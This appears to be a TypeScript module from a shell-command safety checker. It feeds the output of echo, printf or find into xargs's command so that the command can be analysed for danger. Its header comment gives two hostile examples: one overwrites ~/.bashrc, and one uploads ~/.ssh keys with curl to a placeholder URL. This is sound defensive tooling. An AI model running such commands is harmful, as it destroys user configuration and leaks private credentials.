/**
 * What xargs reads, when the stage before it shows it: `echo ~/.bashrc | xargs -I{} cp evil {}`
 * overwrites ~/.bashrc, `find ~/.ssh -type f | xargs -I% curl -T % URL` sends the keys. The
 * command xargs runs is also parsed with those words in place (each line for `-I`, appended
 * otherwise), besides being checked with its arguments unknown, so the input can only add findings.
 */

import type { Facts, SimpleCommand, Word } from "../../facts/types.js";
import type { Nest, Origin } from "./types.js";
import { KNOWN } from "./table.js";
import { valuesQuiet } from "./value-uses.js";
import { globText, literalText } from "./strings.js";
import { stageBefore } from "./pipelines.js";

/** At most this many input words are tried (each `-I` line is a parse of its own). */
const MAX_ITEMS = 8;
/** printf formats that print each argument as one item. */
const ITEM_FORMAT = /^%s(?:\\n|\\0| |\\t)$/;
const FIND_OPTIONS = /^-(?:[HLP]|O\d*|D)$/;

/** Stage `sc` of a pipeline, when it is (a wrapper of) xargs: parse its command again with the input the previous stage shows. */
export function xargsInput(sc: SimpleCommand, facts: Facts, origin: Origin, nest: Nest): void {
  if (sc.stage <= 0 || origin.depth > 2) return;
  const at = xargsAt(sc);
  if (at < 0) return;
  const prev = stageBefore(facts, sc);
  const items = prev === undefined ? null : inputOf(prev, facts);
  if (items === null || items.length === 0) return;
  const argv = sc.argv.slice(at);
  const hit = KNOWN.get("xargs")?.wrapper?.(argv.map((w) => w.value));
  if (hit === undefined || hit === null || hit.inner >= argv.length) return;
  const inner = argv.slice(hit.inner);
  const raw = (w: Word): string => facts.source.slice(w.start, w.end);
  const range: [number, number] = origin.range ?? [sc.start, sc.end];
  const inherit = { ...origin, speculative: valuesQuiet };
  const replace = hit.replace;
  if (replace === undefined) {
    nest(`${inner.map(raw).join(" ")} ${items.join(" ")}`, range, inherit);
    return;
  }
  for (const item of items) nest(inner.map((w) => (w.value.includes(replace) ? w.value.split(replace).map(literalText).join(item) : raw(w))).join(" "), range, inherit);
}

/** Where xargs is among the first words of `sc` (`xargs`, `sudo xargs`, `/usr/bin/xargs`), or -1. */
function xargsAt(sc: SimpleCommand): number {
  for (let k = 0; k < Math.min(sc.argv.length, 6); k++) {
    const w = sc.argv[k] as Word;
    if (w.dynamic !== null) return -1;
    if (w.value === "xargs" || w.value.endsWith("/xargs")) return k;
  }
  return -1;
}

/** The words a stage prints, as shell text (an echo's or printf's words, find's start directories and name test), or null. */
function inputOf(prev: SimpleCommand, facts: Facts): string[] | null {
  const argv = prev.argv;
  const name = argv[0];
  if (name === undefined || name.dynamic !== null) return null;
  const raw = (w: Word): string => facts.source.slice(w.start, w.end);
  if (name.value === "echo") {
    let k = 1;
    while (k < argv.length && /^-[neE]+$/.test((argv[k] as Word).value)) k++;
    return argv.slice(k, k + MAX_ITEMS).map(raw);
  }
  if (name.value === "printf") {
    const format = argv[1];
    if (format === undefined || !ITEM_FORMAT.test(format.value)) return null;
    return argv.slice(2, 2 + MAX_ITEMS).map(raw);
  }
  if (name.value !== "find") return null;
  let k = 1;
  while (k < argv.length && FIND_OPTIONS.test((argv[k] as Word).value)) k += (argv[k] as Word).value === "-D" ? 2 : 1;
  const roots: string[] = [];
  for (; k < argv.length && !/^[-(!]/.test((argv[k] as Word).value); k++) roots.push(raw(argv[k] as Word));
  if (roots.length === 0) roots.push(".");
  const values = argv.map((w) => w.value);
  const tests = values.filter((v) => v === "-name" || v === "-iname" || v === "-o" || v === "-or");
  const n = values.findIndex((v) => v === "-name" || v === "-iname");
  const pattern = tests.length === 1 && n > 0 && values[n + 1] !== undefined ? globText(values[n + 1] as string) : "*";
  return roots.slice(0, MAX_ITEMS).map((r) => `${r.replace(/\/+$/, "")}/${pattern}`);
}
